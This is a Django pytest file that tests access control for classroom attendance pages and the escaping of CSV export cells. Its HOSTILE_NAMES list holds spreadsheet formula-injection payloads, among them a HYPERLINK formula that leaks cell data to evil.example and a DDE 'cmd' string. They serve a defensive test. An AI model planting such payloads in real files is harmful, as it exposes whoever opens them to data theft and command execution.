"""Server-rendered classroom pages through django.test.Client: who may see attendance, and what the CSV holds."""

from __future__ import annotations

import csv
import io
import time
import uuid

import pytest
from django.urls import reverse

from classrooms import services
from classrooms.models import AttendanceRecord, Role
from classrooms.views import csv_safe
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rCarriage",
    "  =1+1",
]


def attendance_url(session) -> str:
    return reverse("session-attendance", args=[session.pk])


def csv_url(session) -> str:
    return reverse("session-attendance-csv", args=[session.pk])


def stay(session, user, *, joined_ago: float, left_in: float = 0, active: float = 0) -> None:
    now = time.time()
    services.attendance_interval_record(session_id=session.pk, user_id=user.pk, conn_id=uuid.uuid4().hex,
                                        joined_at=now - joined_ago, left_at=now + left_in, active=active)


@pytest.fixture
def ended_session(world):
    """Session A, held and ended: student_a attended and chatted twice, a hostile-named classmate never came."""
    session = world.session_a
    services.session_start(session=session, actor=world.teacher_a)
    services.chat_message_post(session=session, author=world.student_a, body="hi")
    services.chat_message_post(session=session, author=world.student_a, body="question")
    services.session_end(session=session, actor=world.teacher_a)
    stay(session, world.student_a, joined_ago=120, left_in=1, active=100)
    return session


def as_user(client, user):
    client.force_login(user)
    return client


def other_teacher_same_school(world):
    teacher = factories.user("teacher_other")
    factories.enroll(factories.course(world.school_a, "ART-A"), teacher, Role.TEACHER)
    return teacher


# --- who may see attendance ---------------------------------------------------------------------------------

@pytest.mark.parametrize("who, status", [
    ("teacher_a", 200),      # teaches the course
    ("staff_a", 200),        # staff of the session's school
    ("staff_b", 404),        # staff of another school in the same district
    ("student_a", 404),      # a student of the course
    ("student_c", 404),      # a student of another district
    ("outsider", 404),
])
def test_attendance_page_and_csv_permissions(client, world, ended_session, who, status):
    as_user(client, getattr(world, who))
    assert client.get(attendance_url(ended_session)).status_code == status
    assert client.get(csv_url(ended_session)).status_code == status


def test_a_teacher_of_another_course_in_the_same_school_gets_404(client, world, ended_session):
    as_user(client, other_teacher_same_school(world))
    assert client.get(attendance_url(ended_session)).status_code == 404
    assert client.post(attendance_url(ended_session)).status_code == 404


def test_signed_out_visitors_are_sent_to_sign_in(client, world, ended_session):
    for url in (attendance_url(ended_session), csv_url(ended_session)):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_a_missing_session_is_404(client, world):
    as_user(client, world.teacher_a)
    assert client.get(reverse("session-attendance", args=[999999])).status_code == 404


# --- recompute and the page ----------------------------------------------------------------------------------

def test_recompute_is_a_post_that_writes_records_and_the_page_lists_them(client, world, ended_session):
    as_user(client, world.teacher_a)
    page = client.get(attendance_url(ended_session))
    assert b"No attendance has been computed" in page.content
    response = client.post(attendance_url(ended_session))
    assert response.status_code == 302 and response["Location"] == attendance_url(ended_session)
    record = AttendanceRecord.objects.get(session=ended_session, user=world.student_a)
    assert record.status == AttendanceRecord.Status.PRESENT and record.chat_messages == 2

    page = client.get(attendance_url(ended_session))
    text = page.content.decode()
    assert "Attendance recomputed for 1 student(s)." in text
    assert 'data-testid="attendance-row"' in text and world.student_a.public_name in text
    assert "Present" in text


def test_students_cannot_recompute(client, world, ended_session):
    as_user(client, world.student_a)
    assert client.post(attendance_url(ended_session)).status_code == 404
    assert not AttendanceRecord.objects.exists()


def test_staff_can_recompute_their_schools_session(client, world, ended_session):
    as_user(client, world.staff_a)
    assert client.post(attendance_url(ended_session)).status_code == 302
    assert AttendanceRecord.objects.filter(session=ended_session).count() == 1


def test_recompute_needs_the_csrf_token(world, ended_session):
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.force_login(world.teacher_a)
    assert strict.post(attendance_url(ended_session)).status_code == 403


# --- the CSV -------------------------------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="attendance-sci-a-')
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_has_one_correct_row_per_student(client, world, ended_session):
    services.attendance_compute(session=ended_session)
    as_user(client, world.teacher_a)
    rows = read_csv(client.get(csv_url(ended_session)))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["student", "username", "status"]
    assert len(body) == 1
    row = dict(zip(header, body[0], strict=True))
    assert row["student"] == world.student_a.public_name and row["username"] == "student_a"
    assert row["status"] == "present"
    assert row["chat_messages"] == "2" and row["poll_answers"] == "0" and row["hand_raises"] == "0"
    assert row["first_join"] and row["last_leave"]  # ISO timestamps in the school's timezone
    assert float(row["present_minutes"]) >= 0 and 0 <= float(row["engagement_score"]) <= 1


def test_csv_cells_cannot_become_formulas(client, world, ended_session):
    for i, name in enumerate(HOSTILE_NAMES):
        student = factories.user(f"mallory{i}", age=14)
        services.user_upsert(email=student.email, first_name="M", display_name=name,
                             date_of_birth=student.date_of_birth)
        factories.enroll(world.course_a, student)
    services.attendance_compute(session=ended_session)
    as_user(client, world.teacher_a)
    rows = read_csv(client.get(csv_url(ended_session)))
    names = {row[0] for row in rows[1:]}
    assert len(rows) == 1 + 1 + len(HOSTILE_NAMES)
    for name in HOSTILE_NAMES:
        assert "'" + name in names, name  # neutralised, otherwise unchanged
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    absent = [row for row in rows[1:] if row[0] != world.student_a.public_name]
    assert {row[2] for row in absent} == {"absent"}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=x", "'\t=x"), ("\r=x", "'\r=x"),
    ("  =1", "'  =1"), ("Ann", "Ann"), ("3.5", "3.5"), ("", ""), (None, ""), (0, "0"), ("a=b", "a=b"),
])
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


# --- the session page and the home page ----------------------------------------------------------------------

def test_session_page_renders_the_teacher_console_only_for_teachers(client, world):
    as_user(client, world.teacher_a)
    teacher_page = client.get(reverse("session-room", args=[world.session_a.pk])).content.decode()
    assert "teacher_console.js" in teacher_page and 'data-testid="session-controls"' in teacher_page
    as_user(client, world.student_a)
    student_page = client.get(reverse("session-room", args=[world.session_a.pk])).content.decode()
    assert "teacher_console.js" not in student_page and 'data-testid="session-controls"' not in student_page
    assert "session_room.js" in student_page and 'data-testid="hand-toggle"' in student_page


def test_an_ended_session_page_says_so_without_opening_a_socket(client, world, ended_session):
    as_user(client, world.student_a)
    text = client.get(reverse("session-room", args=[ended_session.pk])).content.decode()
    assert "This session has ended." in text and "session_room.js" not in text
    as_user(client, world.teacher_a)
    text = client.get(reverse("session-room", args=[ended_session.pk])).content.decode()
    assert attendance_url(ended_session) in text


def test_a_removed_student_sees_why_without_opening_a_socket(client, world):
    services.participant_remove(session=world.session_a, actor=world.teacher_a, user=world.student_a, reason="x")
    as_user(client, world.student_a)
    text = client.get(reverse("session-room", args=[world.session_a.pk])).content.decode()
    assert "You were removed from this session" in text and "session_room.js" not in text


def test_home_links_attendance_for_teachers_and_staff_only(client, world, ended_session):
    live = factories.live_session(world.course_a, "Next class")
    as_user(client, world.teacher_a)
    text = client.get(reverse("home")).content.decode()
    assert attendance_url(live) in text and attendance_url(ended_session) in text
    as_user(client, world.staff_a)
    assert attendance_url(ended_session) in client.get(reverse("home")).content.decode()
    as_user(client, world.staff_b)
    assert attendance_url(ended_session) not in client.get(reverse("home")).content.decode()
    as_user(client, world.student_a)
    text = client.get(reverse("home")).content.decode()
    assert "/attendance/" not in text and "Next class" in text
